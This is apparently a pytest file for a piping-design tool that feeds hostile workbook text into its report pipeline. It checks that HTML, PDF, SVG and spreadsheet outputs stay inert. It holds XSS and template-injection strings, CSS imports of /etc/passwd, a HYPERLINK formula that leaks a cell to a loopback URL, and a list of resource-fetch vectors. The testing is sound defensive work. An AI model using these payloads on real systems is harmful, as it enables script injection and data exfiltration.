"""Text of a workbook stays text: in result cells, in the note as HTML and PDF, and in figures."""

import re
from html.parser import HTMLParser
from pathlib import Path

import pypdfium2
import pytest
from lxml import etree
from openpyxl import load_workbook

from pipecalc import job
from pipecalc.report.assets import FONTS
from pipecalc.report.note import note_html
from pipecalc.report.pdf import Document, make_pdf
from pipecalc.schema.sheets import RESULT_SHEETS, SHEETS
from tests.analysis.hand_plants import line_rows
from tests.workbook.books import write_book

MARKUP = "<script>alert(1)</script><img src=file:///etc/passwd onerror=x>]]>'\"--><svg onload=x></svg>{{ 7*7 }}{% a %}"
STYLE = (
    "</style><style>*{display:none}</style>\\';}@import url(file:///etc/passwd);<link rel=attachment href=file:///x>"
)
FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")'
ODD = "a_x001B_[31m\u202eb_x0000_&#0;&lt;"


def hostile_rows():
    """A line between two nozzles, every free text hostile and every name too."""
    rows = line_rows([{"east": 6}, {"north": 4, "remark": FORMULA}], supports=[{"point": "20", "type": "rest"}])
    names = {"L-1": f"={MARKUP}", "A": f"+{MARKUP[:60]}", "B": f"@{FORMULA}"}
    rows = {s: [{k: _renamed(v, names) for k, v in row.items()} for row in table] for s, table in rows.items()}
    free = {"title": MARKUP, "client": STYLE, "site": FORMULA, "document_number": f"-2+3{STYLE}", "revision": ODD}
    free |= {"prepared_by": MARKUP, "checked_by": FORMULA, "approved_by": STYLE}
    rows["Project"][0].update(free)
    rows["Lines"][0].update({"service": STYLE, "remark": MARKUP})
    rows["Revisions"] = [{"revision": ODD, "description": MARKUP, "prepared_by": STYLE}]
    for row in rows["Supports"]:
        row["support"] = f"@{MARKUP}"
        row["remark"] = STYLE
    return rows


def _renamed(value, names):
    return names.get(value, value) if isinstance(value, str) else value


@pytest.fixture(scope="module")
def done(tmp_path_factory) -> job.Run:
    folder = tmp_path_factory.mktemp("hostile")
    return job.run(write_book(folder / "plant.xlsx", hostile_rows(), edit=_as_text), folder / "out")


def _as_text(book) -> None:
    """What begins like a formula is text all the same, as a spreadsheet program saves it where a cell is quoted."""
    for sheet in book.worksheets:
        for cell in (cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"):
            cell.data_type = "s"


class Seen(HTMLParser):
    """Tags and attributes that a browser would find."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {(name, value or "") for name, value in attrs}

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)


def test_the_note_holds_no_tag_of_the_users(done: job.Run) -> None:
    seen = Seen()
    text = done.html.read_text("utf-8")
    seen.feed(text)
    assert not seen.tags & {
        "script",
        "img",
        "iframe",
        "object",
        "embed",
        "link",
        "base",
        "form",
        "image",
        "foreignobject",
    }
    assert not [name for name, _ in seen.attributes if name.startswith("on")]
    assert not [v for n, v in seen.attributes if n in ("src", "href", "xlink:href") and not v.startswith("#")]
    assert text.count("<style") == 1 + text.count("<style>*") == 1
    assert "alert(1)" in "".join(seen.text)
    assert "{{ 7*7 }}" in "".join(seen.text)
    assert "{% a %}" in "".join(seen.text)
    assert "root:" not in text


def test_figures_are_pictures_and_nothing_else(done: job.Run) -> None:
    figures = sorted((done.folder / "figures").iterdir())
    assert figures
    words = ""
    for figure in figures:
        root = etree.fromstring(figure.read_bytes(), etree.XMLParser(resolve_entities=False, no_network=True))
        tags = {etree.QName(e).localname for e in root.iter() if isinstance(e.tag, str)}
        assert not tags & {"script", "image", "foreignObject", "use", "a", "style", "link"}
        names = {etree.QName(n).localname for e in root.iter() for n in e.attrib}
        assert not [n for n in names if n.startswith("on") or n == "href"]
        words += "".join(root.itertext())
    assert "<script>" in words or "HYPERLINK" in words


def test_the_pdf_holds_the_text_and_only_our_attachment(done: job.Run) -> None:
    document = pypdfium2.PdfDocument(done.note)
    text = "".join(page.get_textpage().get_text_bounded() for page in document)
    assert [document.get_attachment(n).get_name() for n in range(document.count_attachments())] == ["plant.xlsx"]
    document.close()
    plain = re.sub(r"\s", "", text)
    assert "<script>alert(1)</script>" in plain
    assert "{{7*7}}" in plain
    assert "root:" not in text
    raw = done.note.read_bytes()
    assert b"/JavaScript" not in raw
    assert b"/Launch" not in raw


def test_result_cells_are_never_formulas(done: job.Run) -> None:
    book = load_workbook(done.workbook)
    suspicious = 0
    for sheet in book.worksheets:
        results = sheet.title in RESULT_SHEETS
        titles = [str(cell.value) for cell in sheet[1]]
        for row in sheet.iter_rows():
            for cell in row:
                if (results or titles[cell.column - 1].startswith("Result: ")) and isinstance(cell.value, str):
                    assert cell.data_type == "s", cell.coordinate
                    if cell.value.startswith(("=", "+", "-", "@")):
                        suspicious += 1
                        assert cell.quotePrefix, (sheet.title, cell.coordinate)
    assert suspicious > 10


def test_no_character_that_acts_is_left(done: job.Run) -> None:
    acting = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\ufffe\uffff]")
    for file in [done.html, done.results_file, *(done.folder / "figures").iterdir()]:
        assert not acting.search(file.read_text("utf-8")), file


def test_templates_escape_and_miss_nothing_silently(monkeypatch) -> None:
    import jinja2

    made = []
    plain = jinja2.Environment
    monkeypatch.setattr(jinja2, "Environment", lambda **options: made.append(plain(**options)) or made[-1])
    with pytest.raises(jinja2.UndefinedError):
        note_html({}, "")
    assert made[0].autoescape is True
    assert made[0].undefined is jinja2.StrictUndefined


WAYS_OUT = [
    '<img src="{url}">',
    '<object data="{url}"></object>',
    '<embed src="{url}">',
    '<link rel="stylesheet" href="{url}">',
    '<link rel="attachment" href="{url}">',
    '<a rel="attachment" href="{url}">x</a>',
    '<style>@import url("{url}");</style>',
    '<style>body {{ background: url("{url}") }}</style>',
    '<style>@font-face {{ font-family: F; src: url("{url}") }} p {{ font-family: F }}</style>',
    '<style>li {{ list-style-image: url("{url}") }}</style><ul><li>x</ul>',
    '<style>p::before {{ content: url("{url}") }}</style>',
    '<svg width="9" height="9"><image href="{url}" width="9" height="9"/></svg>',
    '<svg width="9" height="9"><use href="{url}#a"/></svg>',
    '<svg width="9" height="9"><style>@import url("{url}");</style></svg>',
    '<svg width="9" height="9"><rect fill="url({url}#a)" width="9" height="9"/></svg>',
    '<base href="{folder}/"><img src="secret.svg">',
]


@pytest.mark.parametrize("way", WAYS_OUT)
def test_the_renderer_fetches_nothing_from_anywhere(way: str, tmp_path: Path, monkeypatch) -> None:
    import socket
    from datetime import date

    from pipecalc.report import pdf

    pdf._library()
    from weasyprint.urls import URLFetcher

    opened: list[str] = []
    monkeypatch.setattr(URLFetcher, "fetch", lambda _self, url, *_: opened.append(url))
    monkeypatch.setattr(socket.socket, "connect", lambda *_: pytest.fail("a connection was opened"))
    secret = tmp_path / "secret.svg"
    secret.write_text('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><text>TOPSECRET</text></svg>')
    inline = "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'/%3E"
    urls = [secret.as_uri(), "http://127.0.0.1:9/a", "https://127.0.0.1:9/a", "ftp://127.0.0.1:9/a", inline]
    urls += [f"{FONTS.as_uri()}/../pdf.py", "FILE:///etc/passwd", "jar:file:///etc/passwd", "about:blank"]
    body = "".join(way.format(url=url, folder=tmp_path.as_uri()) for url in urls)
    made = make_pdf(Document(f"<html lang='en'><body><p>words</p>{body}</body></html>", date(2025, 1, 1)))
    assert opened == []
    document = pypdfium2.PdfDocument(getattr(made, "data", made))
    assert document.count_attachments() == 0
    assert "TOPSECRET" not in document[0].get_textpage().get_text_bounded()
    document.close()


def test_every_sheet_with_free_text_was_tried() -> None:
    tried = {sheet for sheet, rows in hostile_rows().items() if rows}
    assert {"Project", "Revisions", "Lines", "Supports", "Nozzles", "Equipment"} <= tried
    assert tried <= {sheet.title for sheet in SHEETS}
